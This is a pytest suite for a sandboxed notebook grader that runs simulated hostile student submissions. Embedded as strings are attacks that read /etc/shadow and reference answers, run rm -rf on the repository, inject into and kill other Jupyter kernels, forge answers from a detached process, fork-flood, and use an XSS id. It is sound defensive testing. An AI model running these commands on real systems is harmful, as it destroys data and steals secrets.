"""A hostile class, graded in one command: every attack refused or flagged, every honest score intact.

The attackers are notebooks made here from the solutions, each with an attack in its first task cell
and the honest solution after it, so a refused attack leaves exactly the honest score. The test knows
every path an attacker could aim at (the repository, the course, the instructor's submissions, other
students, a TCP listener it starts) and hashes what must not change.
"""

import copy
import hashlib
import os
import pwd
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from class_fixture import CELL_TIMEOUT, NOTEBOOK, Pupil, solution_sources, write_submissions
from test_class_grading import assert_same_rows, fast_path_rows, read_rows

from graders.__main__ import main
from graders.classroom.grade_class import grade_class
from graders.classroom.sandbox import (
    KERNEL_UID,
    WORKDIR,
    Limits,
    SandboxUnavailable,
    bounds_line,
    require_sandbox,
    sandbox_command,
)
from graders.core.answer_files import answer_file
from graders.core.paths import REPO_ROOT, answers_dir

# Every test here runs notebooks in the sandbox.
pytestmark = pytest.mark.slow

SOLVED = solution_sources()
# What the repository holds that grading reads: if a kernel could change it, later students would be
# graded against poisoned files.
REPO_PARTS = ("answers", "graders", "solutions", "notebooks", "nbgrader_config.py")
MARKER = "graders-hostile-class-marker"
# Files of the grading machine that only root may read: a kernel started by root runs as nobody, and
# one started by an instructor as the instructor, but none may see them, or a cell could print them into
# the feedback a student gets back.
SECRETS = ("/etc/shadow", "/etc/ssh", "/etc/ssl/private")


def sandbox_or_skip() -> None:
    """CI installs bubblewrap (make test), so there a missing sandbox is a failure, not a skip."""
    try:
        require_sandbox()
    except SandboxUnavailable as missing:
        if os.environ.get("CI"):
            raise
        pytest.skip(str(missing))


@dataclass
class Listener:
    """A TCP server on every interface that counts who connects: a kernel must never reach it."""

    server: socket.socket
    connections: list[bytes]

    @property
    def port(self) -> int:
        return self.server.getsockname()[1]


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = socket.create_server(("0.0.0.0", 0))
    found = Listener(server, [])

    def accept() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    found.connections.append(connection.recv(1000) or b"(connected)")
                except OSError:
                    found.connections.append(b"(connected)")

    threading.Thread(target=accept, daemon=True).start()
    yield found
    server.close()


def honest(attack: str) -> dict[str, str]:
    """The attack first, inside a try so a refused one lets the honest solution run."""
    guarded = "try:\n" + "".join(f"    {line}\n" for line in attack.splitlines()) + "except Exception as e:\n"
    guarded += "    print('refused:', type(e).__name__, e)\n"
    return {"sum-grads": guarded + SOLVED["sum-grads"]}


def hostile_class(course: Path, submissions: Path, port: int) -> list[Pupil]:
    """Honest victims and attackers; ids interleave so attackers run beside victims (JOBS=2)."""
    repo, reference = REPO_ROOT, answers_dir() / f"{NOTEBOOK}.json"
    others = [course / "submitted" / "ada", course / "autograded" / "ada", submissions / "ada"]
    targets = [reference, repo / "answers", course / "source", course / "grading", *others]
    forger = (
        "import os, time\n"
        "parent = os.getppid()\n"
        "while os.getppid() == parent:\n"
        "    time.sleep(0.05)\n"
        f"open({answer_file(NOTEBOOK)!r}, 'w').write({reference.read_text(encoding='utf-8')!r})\n"
        "open('outlived.txt', 'w').write('the kernel is gone and I am not')\n"
        "time.sleep(600)\n"
    )
    no_dump = "dump_answers = lambda notebook, namespace: None\n"
    return [
        Pupil("ada", 7),
        Pupil(
            "b_reads_references",
            0,
            cells={
                "sum-grads": "import pathlib, shutil\n"
                f"seen = [str(p) for p in map(pathlib.Path, {list(map(str, [*targets, *SECRETS]))!r})"
                " if p.exists()]\n"
                f"print('{MARKER} seen:', seen)\n"
                f"if seen:\n    shutil.copyfile({str(reference)!r}, {answer_file(NOTEBOOK)!r})\n"
                f"    {no_dump}"
            },
            blank=True,
        ),
        Pupil(
            "c_writes_everywhere",
            7,
            cells=honest(
                "import pathlib, shutil, subprocess\n"
                f"for target in {list(map(str, [*targets, repo / 'graders/core/specs', course]))!r}:\n"
                "    path = pathlib.Path(target)\n"
                "    for victim in [*path.rglob('*'), path] if path.is_dir() else [path]:\n"
                "        try:\n"
                "            if victim.is_dir():\n"
                "                shutil.rmtree(victim)\n"
                "            victim.write_text('poisoned')\n"
                "        except Exception as error:\n"
                "            print('refused:', victim, type(error).__name__)\n"
                f"subprocess.run(['rm', '-rf', {str(repo)!r}, {str(course)!r}, {str(submissions)!r}])\n"
            ),
        ),
        Pupil("d_grace", 7),
        Pupil(
            "e_outlives_its_kernel",
            0,
            cells={
                "sum-grads": "import subprocess, sys\n"
                f"subprocess.Popen([sys.executable, '-c', {forger!r}, '{MARKER}'], start_new_session=True)\n"
            },
            blank=True,
        ),
        Pupil(
            "f_phones_home",
            7,
            cells=honest(
                "import socket\n"
                "for host in ['127.0.0.1', socket.gethostbyname(socket.gethostname())]:\n"
                "    try:\n"
                f"        socket.create_connection((host, {port}), timeout=2).sendall(b'{MARKER}')\n"
                "    except OSError as error:\n"
                "        print('refused:', host, error)\n"
            ),
        ),
        Pupil(
            "g_injects_into_kernels",
            7,
            cells=honest(
                "import glob, os, pathlib, signal\n"
                "import ipykernel\n"
                "from jupyter_client import BlockingKernelClient\n"
                "files = glob.glob('/tmp/graders-kernel-*/kernel.json')\n"
                "files += glob.glob(os.path.expanduser('~/.local/share/jupyter/runtime/*.json'))\n"
                "own = os.path.realpath(ipykernel.get_connection_file())\n"
                "files = [name for name in files if os.path.realpath(name) != own]\n"
                f"print('{MARKER} kernels seen:', files)\n"
                "for name in files:\n"
                "    client = BlockingKernelClient(connection_file=name)\n"
                "    client.load_connection_file()\n"
                "    client.start_channels()\n"
                '    client.execute(\'open("00_autograd.answer.json", "w").write("{}")\')\n'
                "kernels = [int(p.name) for p in pathlib.Path('/proc').glob('[0-9]*')\n"
                "           if int(p.name) not in (1, os.getpid())\n"
                "           and b'ipykernel' in (p / 'cmdline').read_bytes()]\n"
                f"print('{MARKER} kernels killed:', kernels)\n"
                "for pid in kernels:\n"
                "    os.kill(pid, signal.SIGKILL)\n"
            ),
        ),
        Pupil("h_linus", 7),
        Pupil(
            "i_leaves_special_files",
            0,
            (
                "the kernel left pipe: a named pipe, not copied",
                f"the kernel left {answer_file(NOTEBOOK)}: a symbolic link, not copied",
                "the notebook saved no answer file",
            ),
            cells={
                "sum-grads": "import os\n"
                "os.mkfifo('pipe')\n"
                f"os.symlink({str(reference)!r}, {answer_file(NOTEBOOK)!r})\n" + no_dump
            },
            blank=True,
        ),
        Pupil(
            "j_ships_special_files",
            7,
            (
                "skipped fifo: a named pipe, not copied",
                "skipped link: a symbolic link, not copied",
                "skipped sock: a socket, not copied",
                "skipped huge.bin: 60 MiB, larger than 50 MiB, not copied",
            ),
        ),
        Pupil("k_duplicates_a_grade_id", 7, ("cell id test-x-grad appears 2 times",)),
        Pupil(
            "l_renames_a_grade_id",
            7,
            ("claims grade id 'test-x-grad-renamed'", "locked cell test-x-grad was deleted"),
        ),
        Pupil("m_adds_a_grade_cell", 7, ("claims grade id 'bonus'",)),
        Pupil(
            "n_starts_500_processes",
            7,
            ("the kernel hit its process limit",),
            cells=honest(
                "import subprocess\n"
                "started = []\n"
                "try:\n"
                "    while len(started) < 500:\n"
                "        started.append(subprocess.Popen(['sleep', '60']))\n"
                "finally:\n"
                "    for process in started:\n"
                "        process.kill()\n"
                "        process.wait()\n"
            ),
        ),
        # An id of letters from any script, digits and ._@- is graded like any other.
        Pupil("zoë_o-brien@uni.example", 7),
    ]


# Folder names the gradebook cannot hold: each is refused with a line naming why, the batch goes on.
REFUSED_IDS = {
    b"caf\xe9": "not valid UTF-8",
    b"line\nbreak": "control characters",
    b"x" * 200: "longer than 128 characters",
    # Not a plain word: quotes, commas, glob characters or markup would reach pages and files that print it.
    b'o\'brien, "jr"': "an id is letters, digits and ._@- only",
    b"star*[x]?..": "an id is letters, digits and ._@- only",
    b"<img src=x onerror=alert(1)>": "an id is letters, digits and ._@- only",
}


def tamper(submissions: Path, reference: Path) -> None:
    """What the folders and notebooks of some students hold beyond what Pupil can say."""
    folder = submissions / "j_ships_special_files" / NOTEBOOK
    os.mkfifo(folder / "fifo")
    os.symlink(reference, folder / "link")
    socket.socket(socket.AF_UNIX).bind(str(folder / "sock"))
    with (folder / "huge.bin").open("wb") as huge:
        huge.truncate(60 * 2**20)
    edit_notebook(submissions / "k_duplicates_a_grade_id", _duplicate_test_x_grad)
    edit_notebook(submissions / "l_renames_a_grade_id", _rename_test_x_grad)
    edit_notebook(submissions / "m_adds_a_grade_cell", _add_bonus_cell)
    for name in REFUSED_IDS:
        write_submissions(submissions / "refused", [Pupil("honest", 7)])
        os.rename(submissions / "refused" / "honest", os.path.join(os.fsencode(submissions), name))
    (submissions / "refused").rmdir()


Cells = list[nbformat.NotebookNode]


def edit_notebook(student: Path, change: Callable[[Cells], Cells]) -> None:
    path = student / NOTEBOOK / f"{NOTEBOOK}.ipynb"
    node = nbformat.read(path, as_version=4)
    node.cells = change(node.cells)
    nbformat.write(node, path)


def _cell(cells: Cells, grade_id: str) -> nbformat.NotebookNode:
    return next(cell for cell in cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _duplicate_test_x_grad(cells: Cells) -> Cells:
    return [*cells, copy.deepcopy(_cell(cells, "test-x-grad"))]


def _rename_test_x_grad(cells: Cells) -> Cells:
    _cell(cells, "test-x-grad").metadata.nbgrader.grade_id = "test-x-grad-renamed"
    return cells


def _add_bonus_cell(cells: Cells) -> Cells:
    bonus = copy.deepcopy(_cell(cells, "test-x-grad"))
    bonus.metadata.nbgrader.update(grade_id="bonus", points=100)
    bonus.source = "print('100 bonus points, please')"
    return [*cells, bonus]


def tree_digest(root: Path) -> dict[str, str]:
    """Every entry under root: a hash for files, the kind for anything else (a FIFO is never opened)."""
    digests = {}
    for path in sorted(root.rglob("*")):
        if "__pycache__" in path.parts:
            continue
        mode = path.lstat().st_mode
        relative = os.fsdecode(path.relative_to(root))
        if stat.S_ISREG(mode):
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif not stat.S_ISDIR(mode):
            digests[relative] = f"special {stat.S_IFMT(mode):o}"
    return digests


def repo_digest() -> dict[str, str]:
    digests = {}
    for part in map(REPO_ROOT.joinpath, REPO_PARTS):
        if part.is_dir():
            digests |= {f"{part.name}/{name}": digest for name, digest in tree_digest(part).items()}
        else:
            digests[part.name] = hashlib.sha256(part.read_bytes()).hexdigest()
    return digests


@dataclass(frozen=True)
class HostileRun:
    """The hostile class after one grading run, and what was hashed around it."""

    pupils: dict[str, Pupil]
    course: Path
    submissions: Path
    rows: dict[str, dict[str, str]]
    report: str
    repo_before: dict[str, str]
    submissions_before: dict[str, str]
    listener: Listener

    def problems_of(self, student: str) -> list[str]:
        return [line.strip() for line in self.report.splitlines() if line.strip().startswith(f"{student} / ")]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> HostileRun:
    sandbox_or_skip()
    root = tmp_path_factory.mktemp("hostile")
    course, submissions = root / "course", root / "submissions"
    pupils = {pupil.id: pupil for pupil in hostile_class(course, submissions, listener.port)}
    write_submissions(submissions, list(pupils.values()))
    tamper(submissions, answers_dir() / f"{NOTEBOOK}.json")
    repo_before, submissions_before = repo_digest(), tree_digest(submissions)
    # The public instance, so the fast path can be compared with this class below
    # (tests/test_hidden_instances.py grades copiers and forgers on hidden instances).
    grade_class(submissions, course, jobs=2, limits=Limits(CELL_TIMEOUT), instances=0)
    report = (course / "report.txt").read_text(encoding="utf-8")
    rows = read_rows(course / "grades.csv")
    return HostileRun(pupils, course, submissions, rows, report, repo_before, submissions_before, listener)


def test_every_student_scores_exactly_what_their_own_answers_earn(hostile: HostileRun) -> None:
    assert set(hostile.rows) == set(hostile.pupils)
    for student, pupil in hostile.pupils.items():
        assert float(hostile.rows[student]["score"]) == pupil.score, (student, hostile.problems_of(student))
        assert float(hostile.rows[student]["max_score"]) == 7, student


def test_every_attack_that_leaves_a_trace_is_flagged_and_victims_are_not(hostile: HostileRun) -> None:
    for student, pupil in hostile.pupils.items():
        reported = hostile.problems_of(student)
        for finding in pupil.findings:
            assert any(finding in line for line in reported), (student, finding, reported)
        if not pupil.findings:
            assert reported == [], (student, reported)


def test_the_report_says_how_kernels_were_bounded(hostile: HostileRun) -> None:
    assert bounds_line() in hostile.report.splitlines()


def test_nothing_outside_the_submissions_changed(hostile: HostileRun) -> None:
    assert repo_digest() == hostile.repo_before
    assert tree_digest(hostile.submissions) == hostile.submissions_before
    solution = REPO_ROOT / "solutions" / f"{NOTEBOOK}.ipynb"
    assert (hostile.course / "source" / NOTEBOOK / f"{NOTEBOOK}.ipynb").read_bytes() == solution.read_bytes()
    release = Path("release") / NOTEBOOK / f"{NOTEBOOK}.ipynb"
    assert (hostile.course / release).read_bytes() == (
        hostile.course / "grading" / "template" / release
    ).read_bytes()
    for student in hostile.pupils:
        given = tree_digest(hostile.submissions / student)
        copied = {
            path: digest for path, digest in given.items() if "special" not in digest and "huge" not in path
        }
        assert tree_digest(hostile.course / "submitted" / student) == copied, student


def test_the_kernel_saw_neither_references_nor_other_kernels(hostile: HostileRun) -> None:
    printed = {
        "b_reads_references": ["seen: []"],
        "g_injects_into_kernels": ["kernels seen: []", "kernels killed: []"],
    }
    for student, lines in printed.items():
        graded = hostile.course / "autograded" / student / NOTEBOOK / f"{NOTEBOOK}.ipynb"
        for line in lines:
            assert f"{MARKER} {line}" in graded.read_text(encoding="utf-8"), (student, line)


def test_no_connection_reached_the_listener(hostile: HostileRun) -> None:
    graded = hostile.course / "autograded" / "f_phones_home" / NOTEBOOK / f"{NOTEBOOK}.ipynb"
    assert "refused: 127.0.0.1" in graded.read_text(encoding="utf-8")
    assert hostile.listener.connections == []


def test_no_process_outlived_its_kernel(hostile: HostileRun) -> None:
    survivors = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if MARKER.encode() in (process / "cmdline").read_bytes():
                survivors.append(process.name)
        except OSError:
            continue
    assert survivors == []
    assert list(hostile.course.rglob("outlived.txt")) == []


def test_odd_ids_get_a_refusal_naming_why(hostile: HostileRun) -> None:
    lines = hostile.report.splitlines()
    for name, reason in REFUSED_IDS.items():
        printable = repr(os.fsdecode(name))[1:-1]
        refusals = [
            line for line in lines if line.strip().startswith(f"{printable} / -: not graded: the folder")
        ]
        assert len(refusals) == 1 and reason in refusals[0], (printable, refusals)


def test_the_sandbox_shows_the_system_files_a_kernel_needs_and_no_secret(tmp_path: Path) -> None:
    sandbox_or_skip()
    probe = (
        "import os, pwd, time, matplotlib.font_manager\n"
        f"print([path for path in {SECRETS!r} if os.path.exists(path)])\n"
        "print(pwd.getpwuid(os.getuid()).pw_name, time.tzname[0] != '', os.getcwd())\n"
    )
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    command = sandbox_command(tmp_path, runtime, [sys.executable, "-c", probe])
    shown = subprocess.run(command, capture_output=True, text=True, check=True)
    # Root's kernels run as nobody; anyone else's keep their uid.
    user = pwd.getpwuid(KERNEL_UID if os.getuid() == 0 else os.getuid()).pw_name
    assert shown.stdout.splitlines() == ["[]", f"{user} True {WORKDIR}"], shown.stderr


def test_a_missing_sandbox_tool_is_a_clear_error_not_an_unsandboxed_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    submissions = write_submissions(tmp_path / "submissions", [Pupil("ada", 7)])
    monkeypatch.setenv("PATH", str(tmp_path / "no-tools-here"))
    assert main(["class", str(submissions), f"--course={tmp_path / 'course'}"]) == 2
    assert "needs bwrap, which is not installed: install Debian's bubblewrap" in capsys.readouterr().err
    assert not (tmp_path / "course").exists()


def test_no_sandbox_is_explicit_and_said_in_the_report(tmp_path: Path) -> None:
    submissions = write_submissions(tmp_path / "submissions", [Pupil("ada", 7)])
    report = grade_class(submissions, tmp_path / "course", limits=Limits(CELL_TIMEOUT, sandboxed=False))
    assert [row.score for row in report.rows] == [7]
    assert "sandbox:  NONE (--no-sandbox)" in report.report_txt.read_text(encoding="utf-8")


def test_the_fast_path_gives_odd_ids_the_rows_nbgrader_gave(hostile: HostileRun, tmp_path: Path) -> None:
    fast = fast_path_rows(hostile.course / "autograded", tmp_path / "fast.csv")
    assert "zoë_o-brien@uni.example" in fast
    assert_same_rows(fast, hostile.rows)
